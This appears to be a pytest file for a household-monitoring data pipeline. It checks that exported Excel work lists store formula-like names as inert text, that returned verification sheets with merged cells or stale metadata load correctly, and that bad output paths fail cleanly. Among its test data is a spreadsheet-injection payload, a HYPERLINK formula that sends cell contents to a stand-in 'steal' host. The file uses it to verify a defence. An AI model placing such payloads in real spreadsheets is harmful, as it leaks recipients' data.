"""Work lists out and back through the user's doors, with hostile and careless spreadsheets:
heads of household named like formulas (issue 3), a returned verifications.xlsx with a stale
size, merged outcome cells and a formula with no saved value (7), `worklist --out` at places
that cannot be written (11). One June run carries the names and the returned list."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import zipfile
from pathlib import Path

import duckdb
import pytest
from june_arrives import JUNE, MAY, copy_of
from openpyxl import Workbook, load_workbook
from user_door import CLI, user_environment

FORMULA_NAME = '=HYPERLINK("http://x.example/steal?d="&A2,"点击")'
HOSTILE_NAMES = (FORMULA_NAME, "+1+2", "-3+4", "@SUM(1+1)", "\t=1+1")
VERIFIED = f"{JUNE}-08"
MERGED = 3  # rows under one merged 核实结果 / 核实日期


def rewrite_csv(path: Path, edit) -> None:
    """Edit a landed extract's rows in its own encoding and keep its manifest true."""
    data = path.read_bytes()
    encoding = "utf-8-sig" if data.startswith(b"\xef\xbb\xbf") else "utf-8"
    try:
        text = data.decode(encoding)
    except UnicodeDecodeError:
        encoding, text = "gb18030", data.decode("gb18030")
    rows = list(csv.DictReader(io.StringIO(text)))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(edit(rows))
    data = out.getvalue().encode(encoding)
    path.write_bytes(data)
    manifest = path.parent / "_manifest.json"
    body = json.loads(manifest.read_text(encoding="utf-8"))
    body["files"][path.name]["sha256"] = hashlib.sha256(data).hexdigest()
    manifest.write_text(json.dumps(body, indent=2) + "\n", encoding="utf-8")


def name_heads(rows: list[dict]) -> list[dict]:
    heads = [row for row in rows if row["与户主关系"] == "户主"]
    for index, row in enumerate(heads):
        row["姓名"] = HOSTILE_NAMES[index % len(HOSTILE_NAMES)]
    return rows


def list_rows(folder: Path) -> list[dict]:
    rows = []
    for path in sorted(folder.glob("*.xlsx")):
        values = list(load_workbook(path, read_only=True).worksheets[0].iter_rows(values_only=True))
        rows += [dict(zip(values[0], row, strict=True)) for row in values[1:] if row[0]]
    return rows


def returned_workbook(may_rows: list[dict], path: Path) -> dict[str, str]:
    """May's lists filled in as a township's tools leave them: the first MERGED leads answered
    by one merged 核实结果 and 核实日期, every other lead answered in its own row, then the sheet's
    declared size shrunk to its first row (A1:S2). Returns the outcome expected per lead."""
    ordered = sorted(may_rows, key=lambda r: r["线索类型"] == "风险消除复核")
    assert len(ordered) > MERGED + 5 and ordered[MERGED - 1]["线索类型"] != "风险消除复核"
    headers = list(ordered[0])
    expected = {}
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for index, row in enumerate(ordered):
        outcome = "继续监测" if row["线索类型"] == "风险消除复核" else "无法联系"
        outcome = "排除" if index < MERGED else outcome
        expected[row["线索编号"]] = outcome
        if index == 0 or index >= MERGED:  # the merged rows below the first stay empty
            row.update(核实结果=outcome, 核实日期=VERIFIED, 核实人="GB0042")
        sheet.append([row[h] for h in headers])
    for header in ("核实结果", "核实日期"):
        column = sheet.cell(1, headers.index(header) + 1).column_letter
        sheet.merge_cells(f"{column}2:{column}{MERGED + 1}")
    workbook.save(path)
    _rewrite_sheet_xml(
        path,
        lambda xml: re.sub(rb"<dimension ref=\"[^\"]+\" ?/>", rb'<dimension ref="A1:S2"/>', xml),
    )
    return expected


def _rewrite_sheet_xml(path: Path, edit) -> None:
    with zipfile.ZipFile(path) as source:
        parts = [(item, source.read(item.filename)) for item in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item, data in parts:
            is_sheet = item.filename.startswith("xl/worksheets/sheet")
            target.writestr(item, edit(data) if is_sheet else data)


@pytest.fixture(scope="module")
def june(through_may, tmp_path_factory):
    county = copy_of(through_may, tmp_path_factory.mktemp("worklist_files"))
    root = county.root
    where = ("--warehouse", str(county.warehouse))
    county.cli("worklist", "--month", MAY, "--out", str(root / "may_lists"), *where)
    returned = county.landing / "case_management" / JUNE / "verifications.xlsx"
    returned.parent.mkdir(parents=True)
    expected = returned_workbook(list_rows(root / "may_lists"), returned)
    rewrite_csv(county.june_file("rural_revitalization", "members.csv"), name_heads)
    county.land_june()
    run = county.run("--month", JUNE)
    assert run.returncode == 0, run.stderr
    county.cli("worklist", "--month", JUNE, "--out", str(root / "june_lists"), *where)
    return {"county": county, "expected": expected, "june_lists": root / "june_lists"}


def analytics(june, sql: str, params=()) -> list[tuple]:
    path = june["county"].warehouse / "analytics.duckdb"
    with duckdb.connect(str(path), read_only=True) as con:
        return con.execute(sql, list(params)).fetchall()


def worklist_cli(june, out: Path) -> subprocess.CompletedProcess:
    county = june["county"]
    return subprocess.run(
        [CLI, "worklist", "--month", JUNE, "--out", str(out), "--warehouse", str(county.warehouse)],
        env=user_environment(county.home),
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def test_3_names_like_formulas_are_written_as_the_text_typed(june):
    files = sorted(june["june_lists"].glob("*.xlsx"))
    assert files
    for path in files:
        with zipfile.ZipFile(path) as book:
            for part in book.namelist():
                if part.startswith("xl/worksheets/"):
                    assert not re.search(rb"<f[ >/]", book.read(part)), (path.name, part)
    hostile = 0
    for path in files:
        for row in load_workbook(path).worksheets[0].iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE_NAMES:
                    assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.coordinate)
                    hostile += 1
    shown = {row["户主姓名"] for row in list_rows(june["june_lists"])}
    assert FORMULA_NAME in shown and hostile >= len(shown & set(HOSTILE_NAMES))
    assert {"+1+2", "-3+4", "@SUM(1+1)"} <= shown


def test_7_a_stale_declared_size_still_loads_every_returned_row(june):
    [(rows_in, loaded, quarantined, balanced)] = analytics(
        june,
        "select rows_in, rows_loaded, rows_quarantined, is_balanced "
        "from quality.file_reconciliation where source = 'case_management' and month = ?",
        [JUNE],
    )
    assert (rows_in, loaded, quarantined, balanced) == (len(june["expected"]),) * 2 + (0, True)
    findings = "select 1 from quality.findings where source = 'case_management' and month = ?"
    assert not analytics(june, findings, [JUNE])


def test_7_merged_outcome_cells_answer_every_row_under_them(june):
    outcomes = dict(
        analytics(
            june,
            "select lead_id, outcome from monitoring.lead_status where month = ? and outcome "
            "is not null",
            [JUNE],
        )
    )
    merged = [lead for lead, outcome in june["expected"].items() if outcome == "排除"]
    assert len(merged) == MERGED
    assert all(outcomes.get(lead) == "排除" for lead in merged), outcomes
    loaded = "select lead_id, outcome from quality.verifications_checked where month = ?"
    assert dict(analytics(june, loaded, [JUNE])) == june["expected"]


def test_11_worklist_out_at_a_file_or_under_one_is_one_line_and_exit_2(june, tmp_path):
    a_file = tmp_path / "lists.xlsx"
    a_file.write_text("not a folder")
    # Tests run as root, where a chmod 0500 folder stays writable: a path under a regular file
    # is a folder that cannot be made, whoever runs.
    for out in (a_file, a_file / "sub"):
        result = worklist_cli(june, out)
        assert result.returncode == 2, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
        assert str(out) in result.stderr


def test_7_a_formula_with_no_saved_value_rejects_the_file_naming_the_cell(june):
    """Last: it re-delivers June's returned list and runs June again."""
    county = june["county"]
    returned = county.landing / "case_management" / JUNE / "verifications.xlsx"
    workbook = load_workbook(returned)
    sheet = workbook.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(MERGED + 2, headers.index("核实结果") + 1)
    cell.value = '="排除"'  # openpyxl saves formulas without a value, as scripts do
    workbook.save(returned)
    run = county.run("--month", JUNE)
    assert run.returncode == 0, run.stderr
    [(check, reason)] = analytics(
        june,
        "select check_name, reason from quality.findings "
        "where source = 'case_management' and month = ?",
        [JUNE],
    )
    assert check == "unreadable_xlsx"
    assert f"cell {cell.coordinate} holds a formula with no saved value" in reason
